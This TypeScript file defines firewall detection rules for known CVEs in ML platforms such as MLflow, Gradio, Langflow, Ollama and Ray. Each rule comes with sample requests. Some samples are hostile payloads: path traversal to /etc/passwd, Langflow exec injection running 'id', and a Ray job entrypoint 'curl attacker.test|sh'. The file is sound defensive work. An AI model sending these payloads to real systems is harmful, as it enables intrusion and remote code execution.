import { get, jsonPost, send } from '../../../request-samples.ts';
import { allOf, anyOf, bodyHas, bodyMatches, pathHas, pathIs, rawPathHas } from '../conditions.ts';
import { detection } from '../targeted-rule.ts';

/** Platforms that train and run models. */
export const languageModelPlatformRules = [
  detection({
    ref: 'managed-mlflow-files',
    description: 'MLflow: reads files as the source of a model (CVE-2023-1177, CVE-2023-6909)',
    categories: ['mlflow', 'directory-traversal', 'cve-2023-1177', 'cve-2023-6909'],
    action: 'log',
    expression: allOf(
      pathHas('/2.0/mlflow/'),
      bodyMatches('"(?:source|artifact_location)" *: *"(?:file:)?/|\\.\\./'),
    ),
    matching: [
      jsonPost('/ajax-api/2.0/mlflow/model-versions/create', {
        name: 'x',
        source: '//proc/self/root',
      }),
      jsonPost('/api/2.0/mlflow/experiments/create', {
        name: 'x',
        artifact_location: 'http:///#/../../../etc/',
      }),
    ],
    other: [
      jsonPost('/api/2.0/mlflow/model-versions/create', {
        name: 'x',
        source: 's3://models/x',
        run_id: '5f',
      }),
      get('/api/2.0/mlflow/experiments/list'),
    ],
  }),
  detection({
    ref: 'managed-gradio-files',
    description: 'Gradio: reads files of the server (CVE-2023-51449, CVE-2024-1561)',
    categories: ['gradio', 'directory-traversal', 'cve-2023-51449', 'cve-2024-1561'],
    expression: anyOf(
      allOf(rawPathHas('/file='), rawPathHas('/../', '/etc/', '/proc/', 'c:/', '%2e%2e')),
      allOf(pathHas('/component_server'), bodyHas('move_resource_to_block_cache', '/etc/', '../')),
    ),
    matching: [
      get('/file=/etc/passwd'),
      get('/file=/tmp/gradio/../../etc/passwd'),
      jsonPost('/component_server', {
        component_id: '1',
        data: '/etc/passwd',
        fn_name: 'move_resource_to_block_cache',
      }),
    ],
    other: [
      get('/file=/tmp/gradio/5f3a/image.png'),
      jsonPost('/component_server', { component_id: '1', data: 'x', fn_name: 'ls' }),
    ],
  }),
  detection({
    ref: 'managed-langflow-code',
    description: 'Langflow: runs Python while it checks the code of a component (CVE-2025-3248)',
    categories: ['langflow', 'code-injection', 'remote-code-execution', 'cve-2025-3248'],
    expression: allOf(
      pathHas('/api/v1/validate/code'),
      bodyMatches('@ *(?:exec|eval|__import__)|[(,] *[a-z_]+ *= *(?:exec|eval|__import__)[(]'),
    ),
    matching: [
      jsonPost('/api/v1/validate/code', {
        code: '@exec(\'raise Exception(__import__("subprocess").check_output("id"))\')\ndef foo():\n  pass',
      }),
      jsonPost('/api/v1/validate/code', { code: 'def x(a=__import__("os").system("id")): pass' }),
    ],
    other: [
      jsonPost('/api/v1/validate/code', {
        code: 'import subprocess\n\ndef run(name):\n    return eval(name)',
      }),
      jsonPost('/api/v1/validate/code', {
        code: 'from langflow.custom import Component\n\nclass A(Component):\n    pass',
      }),
      jsonPost('/api/v1/validate/prompt', { template: 'Execute {x}' }),
    ],
  }),
  detection({
    ref: 'managed-ollama-api',
    description:
      'Ollama: downloads, creates or deletes models through an API that is open to the Internet (CVE-2024-37032). Off by default, because the path is short and some sites publish their models',
    categories: ['ollama', 'broken-access-control', 'cve-2024-37032'],
    action: 'log',
    isOff: true,
    expression: allOf(
      pathIs('/api/pull', '/api/push', '/api/create', '/api/delete', '/api/copy'),
      bodyHas('"name"', '"model"'),
    ),
    matching: [
      jsonPost('/api/pull', { name: 'attacker.test/rogue/x', insecure: true }),
      send('DELETE', '/api/delete', 'application/json', '{"model":"llama3"}'),
    ],
    other: [
      jsonPost('/api/chat', { model: 'llama3', messages: [] }),
      jsonPost('/api/create', { title: 'a' }),
    ],
  }),
  detection({
    ref: 'managed-ray-job',
    description: 'Ray: submits a job through an API that is open to the Internet (CVE-2023-48022)',
    categories: ['ray', 'command-injection', 'remote-code-execution', 'cve-2023-48022'],
    action: 'log',
    expression: allOf(pathHas('/api/jobs', '/api/job_agent/jobs'), bodyHas('"entrypoint"')),
    matching: [
      jsonPost('/api/jobs/', { entrypoint: 'curl attacker.test|sh' }),
      jsonPost('/api/job_agent/jobs/', { entrypoint: 'id', runtime_env: {} }),
    ],
    other: [jsonPost('/api/jobs', { title: 'Engineer', city: 'Oslo' }), get('/api/jobs/')],
  }),
  detection({
    ref: 'managed-jupyter-terminal',
    description:
      'Jupyter: opens a terminal. Off by default, because users of notebooks do so as well',
    categories: ['jupyter', 'command-injection'],
    action: 'log',
    isOff: true,
    expression: pathHas('/api/terminals', '/terminals/websocket/'),
    matching: [
      send('POST', '/api/terminals', 'application/json', ''),
      get('/terminals/websocket/1'),
    ],
    other: [get('/api/kernels'), get('/shop/terminals')],
  }),
];
